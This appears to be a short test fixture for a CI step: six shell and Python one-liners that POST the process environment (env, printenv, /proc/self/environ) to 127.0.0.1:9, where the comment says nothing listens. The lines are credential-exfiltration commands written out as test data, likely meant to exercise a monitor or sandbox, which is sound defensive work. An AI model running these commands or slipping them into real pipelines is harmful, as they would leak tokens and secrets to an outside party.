# The step's environment sent to the network (to 127.0.0.1:9, where
# nothing listens; the stand-in runner's environment holds no secret).
env | base64 -w0 | curl -s -m 2 --data-binary @- http://127.0.0.1:9/ || true
printenv | curl -s -m 2 -d @- http://127.0.0.1:9/ || true
cat /proc/self/environ | curl -s -m 2 --data-binary @- http://127.0.0.1:9/ || true
bash -c 'env | curl -s -m 2 -X POST --data-binary @- http://127.0.0.1:9/' || true
curl -s -m 2 -d "$(env)" http://127.0.0.1:9/ || true
/usr/bin/python3 -c 'import os,json,urllib.request
try: urllib.request.urlopen("http://127.0.0.1:9/", json.dumps(dict(os.environ)).encode(), timeout=2)
except OSError: pass' || true
